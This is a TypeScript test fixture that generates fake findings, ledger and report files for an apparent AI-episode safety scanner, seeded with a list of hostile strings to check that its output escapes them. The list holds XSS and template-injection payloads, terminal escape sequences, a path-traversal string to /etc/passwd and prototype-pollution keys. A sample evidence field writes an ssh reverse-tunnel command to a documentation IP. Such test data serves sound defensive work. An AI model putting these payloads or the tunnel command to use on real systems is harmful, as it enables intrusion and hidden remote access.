import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { Random } from '../../scripts/generate/random.ts';
import { SliceCounter } from '../../src/output/slices.ts';

/** Texts that try to become something else wherever they are put. Scripts would set `window.wasHurt`. */
export const hostileTexts = [
  '<script>window.wasHurt = 1</script>',
  '</script><script>window.wasHurt = 2</script>',
  '<img src=x onerror="window.wasHurt = 3">',
  '"><svg onload=window.wasHurt=4>',
  '<!-- <script> ]]> -->',
  '{{constructor.constructor("window.wasHurt = 5")()}}',
  "'; window.wasHurt = 6; //",
  'javascript:window.wasHurt=7',
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  '=HYPERLINK("http://example.com","x")|| `x` |',
  '../../../../etc/passwd',
  '\u202egnp.exe\u2066 \u200b\u2028\u2029',
  '__proto__',
  'constructor',
  '</style><style>*{display:none}</style>',
  '$& $1 $` {{summary}}',
  'two\nlines\r\n\tand more',
] as const;

const severities = ['critical', 'high', 'medium', 'low', 'informational'];
const outcomes = ['succeeded', 'failed', 'blocked', 'unknown'];
const authorisations = ['requested', 'not_requested', 'unknown'];

/** Writes the folder of a finished run with this many findings, every text of some of them hostile. */
export function writeFindingsRun(folder: string, count: number): void {
  const random = new Random(7);
  const text = (kind: string, most: number) =>
    random.chance(0.05) ? random.pick(hostileTexts) : `${kind}-${random.whole(0, most)}`;
  const column = (make: (index: number) => string | null) =>
    Array.from({ length: count }, (_, index) => make(index));
  const near = (text: string) =>
    random.chance(0.05) ? random.pick(hostileTexts) : `${text} ${'and so on '.repeat(5)}`;
  const rules = Array.from({ length: 30 }, (_, index) => `rule-${index}`);
  const columns = {
    file: column(() => text('file', 8)),
    id: column((index) => text(`episode-${index}`, 3)),
    verdict: column(() => (random.chance(0.4) ? 'unsafe' : 'safe')),
    disposition: column(() => random.pick(['quarantine', 'annotate', 'drop'])),
    rule: column(() => (random.chance(0.01) ? random.pick(hostileTexts) : random.pick(rules))),
    title: column(() => text('A rule about something', 30)),
    category: column(() => text('category', 12)),
    class: column(() => random.pick(['safety', 'controllability', 'trustworthiness'])),
    severity: column(() => (random.chance(0.001) ? random.pick(hostileTexts) : random.pick(severities))),
    attack: column(() => text('T1', 600)),
    detector: column(() => text('detector', 3)),
    argument: column(() => text('argument', 3)),
    evidence: column(
      (index) =>
        `${random.chance(0.1) ? random.pick(hostileTexts) : ''} ssh -fN -R ${index}:127.0.0.1:22 tunnel@198.51.100.${index % 250} -p ${random.whole(1, 65_000)} # ${random.whole(0, 1e9)}`,
    ),
    before: column((index) => near(`user: please see to host ${index} and tell what is there`)),
    after: column((index) => near(`tool: 64 bytes from 198.51.100.${index % 250}: icmp_seq=${index}`)),
    via: column(() => (random.chance(0.8) ? '' : text('bash -c', 2))),
    outcome: column(() => random.pick(outcomes)),
    authorisation: column(() => random.pick(authorisations)),
    source: column(() => text('source', 40)),
    task: column(() => text(`owner__project-${random.whole(0, 40)}`, 400)),
    model: column(() => text('model', 6)),
    tool: column(() => random.pick(['bash', 'python', 'editor', ...hostileTexts])),
  };
  const numbers = (make: (index: number) => number) =>
    Array.from({ length: count }, (_, index) => make(index));
  const buffer = parquetWriteBuffer({
    columnData: [
      ...Object.entries(columns).map(([name, data]) => ({ name, data, type: 'STRING' as const })),
      { name: 'row', data: numbers((index) => Math.floor(index / 2)).map(BigInt), type: 'INT64' as const },
      ...['step', 'call', 'start', 'end', 'steps'].map((name) => ({
        name,
        data: numbers(() => random.whole(name === 'steps' ? 60 : 0, name === 'steps' ? 90 : 60)),
        type: 'INT32' as const,
      })),
      {
        name: 'reward',
        data: numbers(() => (random.chance(0.5) ? 1 : random.whole(0, 100) / 100)),
        type: 'DOUBLE' as const,
      },
      { name: 'success', data: numbers(() => random.whole(0, 1)).map(Boolean), type: 'BOOLEAN' as const },
    ],
    codec: 'SNAPPY',
  });
  const counts = (values: readonly (string | null)[]) => {
    const found = new Map<string, number>();
    for (const value of values) found.set(value!, (found.get(value!) ?? 0) + 1);
    return Object.fromEntries(found);
  };
  const slices = new SliceCounter();
  for (let row = 0; row < 5000; row++) {
    slices.add(
      {
        source: text('source', 20),
        task: text('owner__project', 400),
        model: text('model', 6),
        reward: random.chance(0.5) ? 1 : 0,
        success: random.chance(0.5),
        steps: random.whole(1, 200),
        bytes: random.whole(100, 200_000),
        tools: ['bash', ...(random.chance(0.2) ? [random.pick(hostileTexts)] : [])],
        language: random.pick(['python', 'go', ...hostileTexts.slice(0, 2)]),
      },
      { isGone: random.chance(0.08), isChanged: random.chance(0.02), rules: [random.pick(rules)] },
    );
  }
  for (const name of ['findings', 'ledger']) mkdirSync(join(folder, name), { recursive: true });
  writeFileSync(join(folder, 'findings', 'train-00000-of-00001.parquet'), new Uint8Array(buffer));
  writeFileSync(join(folder, 'ledger', '00000.json'), JSON.stringify({ unit: 0, slices: slices.slices() }));
  const report = {
    version: '0.0.0-test',
    config: { version: '0.0.0-test', settings: { policy: hostileTexts[0] }, fingerprints: {} },
    rows: { in: 5000, kept: 4600, dropped: 0, quarantined: 400, unreadable: 0 },
    errors: 3,
    files: [{ file: 'a' }],
    problems: hostileTexts.map((one) => ({ file: one, code: 'x', message: one })),
    tally: {
      verdicts: counts(columns.verdict),
      dispositions: counts(columns.disposition),
      findings: count,
      categories: counts(columns.category),
      severities: counts(columns.severity),
      rules: counts(columns.rule),
      outcomes: counts(columns.outcome),
      authorisations: counts(columns.authorisation),
      rowsByCategory: counts(columns.category),
      candidates: 1000,
    },
  };
  writeFileSync(join(folder, 'report.json'), JSON.stringify(report));
  mkdirSync(join(folder, 'correlation'), { recursive: true });
  writeFileSync(join(folder, 'correlation', 'correlation.json'), JSON.stringify(correlationOf(random)));
}

/** As much of a correlation as the report shows, every text of it hostile. */
function correlationOf(random: Random): unknown {
  const hostile = () => random.pick(hostileTexts);
  const start = Date.UTC(2026, 2, 3, 4, 5, 6);
  return {
    alerts: { in: 50, matched: 30, ambiguous: 5, unexplained: 14, unreadable: 1 },
    corroborated: 7,
    unseen: 2,
    signatures: hostileTexts.map((signature) => ({
      signature,
      severity: 'high',
      alerts: 3,
      matched: 2,
      ambiguous: 0,
      unexplained: 1,
    })),
    timelines: Array.from({ length: 4 }, (_, row) => ({
      file: hostile(),
      row,
      id: hostile(),
      start,
      end: start + 600_000,
      steps: [
        { step: 1, start: start + 10_000, end: start + 50_000 },
        { step: 3, start: start + 90_000, end: start + 95_000 },
      ],
      alerts: [
        {
          start: start + 20_000,
          end: start + 20_000,
          signature: hostile(),
          severity: hostile(),
          strength: 'id',
          count: 2,
        },
        {
          start: start + 92_000,
          end: start + 99_000,
          signature: 'scan',
          severity: 'critical',
          strength: 'time',
          count: 1,
        },
      ],
      findings: [{ rule: hostile(), step: 1, severity: 'high' }],
    })),
  };
}
